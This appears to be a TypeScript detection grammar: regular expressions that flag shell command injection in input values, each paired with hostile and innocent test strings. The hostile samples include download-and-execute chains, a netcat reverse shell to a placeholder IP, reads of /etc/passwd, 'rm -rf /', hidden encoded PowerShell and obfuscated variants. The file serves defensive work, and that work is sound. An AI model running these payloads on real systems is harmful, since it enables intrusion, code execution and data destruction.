// Grammar of texts written to run shell commands.
// Each entry keeps the hostile and innocent texts that it is tested with.
import type { GrammarEntry } from './grammar-entry.ts';

/** Tried on the first 4,096 characters of a decoded value. */
export const COMMAND_GRAMMAR: readonly GrammarEntry[] = [
  // a shell separator, then a command with its usual argument
  {
    id: 'cmd-inject',
    family: 'rce',
    cls: 'break',
    re: /^[^\s;|&`$]{0,60}(?:;|\|\|?|&&?|`|\$\(|%0a|\n)\s*\+?(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)/i,
    hostile: [
      '127.0.0.1; wget http://198.51.100.9/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b',
      '; cat /etc/passwd',
      ';id',
      '|id',
      '`id`',
      '127.0.0.1$(curl http://198.51.100.9/x.sh|sh)',
      '& ping -c 1 198.51.100.9 &',
      'a\nid',
    ],
    innocent: [
      'ping pong; ball',
      'cat food',
      'wget tutorial',
      'size 42; black',
      'salt & pepper',
      'tea | coffee',
      'R&D id card',
    ],
  },
  // a shell command as the whole value
  {
    id: 'cmd-whole',
    family: 'rce',
    cls: 'break',
    re: /^\s*(?:cat\s+\/\S+|uname\s+-a|ls\s+-\w+(?:\s+\/\S*)?|whoami|net\s+user|type\s+c:\S+|ifconfig|ipconfig|(?:wget|curl)\s+(?:-\S+\s+)*(?:https?:\/\/|\d+\.\d+)\S+|rm\s+-\w{0,3}[rf]\w{0,3}\s+\S+|nc\s+-\w{1,5}\s.{0,200}|(?:ba|z|k)?sh\s+-[ic]\b.{0,200}(?:\/dev\/tcp|curl|wget|\bnc\b|base64).{0,200}|powershell(?:\.exe)?\s.{0,200}(?:-e(?:nc\w{0,12})?\s+[\w+/=]{4}|-w\w{0,12}\s+hidden|downloadstring|\biex\b).{0,200}|(?:python\d?|perl|ruby|php)\s+-[cer]\s*['"].{0,100}(?:socket|system|exec|popen|import\s+os|eval).{0,200}|(?:id|ls|pwd|dir|uname|env)\s*[;|&]{1,2})\s*$/i,
    hostile: [
      'cat /etc/passwd',
      'uname -a',
      'ls -la',
      'whoami',
      'rm -rf /',
      'nc -e /bin/sh 198.51.100.9 4444',
      'powershell -nop -w hidden -enc AAAA',
      "python -c 'import os'",
      'id;',
    ],
    innocent: [
      'cat food',
      'ls',
      'id',
      'wget tutorial',
      'powershell course',
      'powershell.exe -Command Get-Process',
      'bash -c "date"',
      'php - rychlokurz',
      'sh -1',
    ],
  },
  // a text with a command glued to its end
  {
    id: 'cmd-tail',
    family: 'rce',
    cls: 'break',
    re: /\S(?:[;|&`\n\r]{1,2}|\$\()(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)[^a-z]*$/i,
    hostile: ['Hi there!;env;', 'Hi there!\nenv;', 'hello|id', 'please call me&ping -c 3 198.51.100.9&'],
    innocent: [
      '[code]tail -f /var/log/messages | grep error; ps aux[/code]',
      'try: curl -s http://example.com/install.sh | bash',
      'R&D id card',
    ],
  },
  // a command after a separator somewhere in a text
  {
    id: 'cmd-text',
    family: 'rce',
    cls: 'mention',
    re: /(?:[;|&`]\s*|\n[^\S\n]*|\$\(\s*)(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)|\|\s*(?:ba)?sh\b\s*$/i,
    hostile: ['x y; wget http://198.51.100.9/a', 'a b | nc -e /bin/sh'],
    innocent: ['Run it and paste; thanks', 'this; that'],
  },
  // further commands after a separator, and tricks that hide one
  {
    id: 'cmd-more',
    family: 'rce',
    cls: 'break',
    re: /^[^\s;|&`$]{0,60}(?:;|\|\|?|&&?|`|\$\(|\n)\s*(?:(?:dir|ls|reboot|halt|ipconfig|netstat)\s*(?:[;|&`)\n]|$)|dir\s+(?:\/|[a-z]:)|ipconfig\b|netstat\s+-|type\s+[a-z]:|echo\s+\S|shutdown\s+[-/]|phpinfo\s*\(|\w{1,20}\$\{?IFS|\/[?*]{2,}\/|cat\s*<|\w{1,4}'\w{1,4}'\w{0,4}\s+\/)/i,
    hostile: [
      ';ls',
      '|dir',
      '; dir c:\\',
      '& ipconfig /all',
      '| type C:\\boot.ini',
      ';echo test',
      ';reboot',
      ';shutdown -h now',
      ';phpinfo();',
      ';sleep${IFS}5',
      '`sleep${IFS}5`',
      ';/???/c?t /???/p??s??',
      ";c'a't /etc/passwd",
      'a;cat</etc/passwd',
    ],
    innocent: ['Q&A', 'R&D; dir', 'foto;lsd', 'A&W', 'Dolce&Gabbana', 'echo; no', 'size 42; black'],
  },
  // a separator as the first character, then any command
  {
    id: 'cmd-start',
    family: 'rce',
    cls: 'break',
    re: /^\s*(?:(?:[;|`]{1,2}|&&|\$\()\s*(?:\/(?:usr\/)?s?bin\/\w|(?:id|w|who|last|ls|dir|mkdir|touch|find|python\d?|perl|ruby|node|php\d?|telnet|ssh|scp|dig|host|traceroute|kill|crontab|export|set|uptime|df|mount|lsof|arp|route|net|exit|print|printf|head|tail|more|less|cp|mv|awk|sed|grep|getent|sleep|curl|wget|ftp|nohup|bash|sh|socat|ncat?)(?:[\s+(;|&`\0$]|$))|&\s*(?:ver|systeminfo|tasklist|net\s+(?:user|localgroup|view))\s*(?:[&|]|$))/i,
    hostile: [
      ';who',
      ';w',
      ';/bin/ls',
      ';find / -name a',
      ';python3 a.py',
      ';ssh x@198.51.100.9',
      ';crontab -l',
      ';df -h',
      ';id #',
      ';id%00',
      '| set /a 3482*7301',
      '|getent+hosts+x.example.net.&',
      '&net user',
      '&ver',
    ],
    innocent: [';-)', ';who?', '& more', '|x - 2| < 3', '; foto', '&co', ';setup', '`code`'],
  },
];
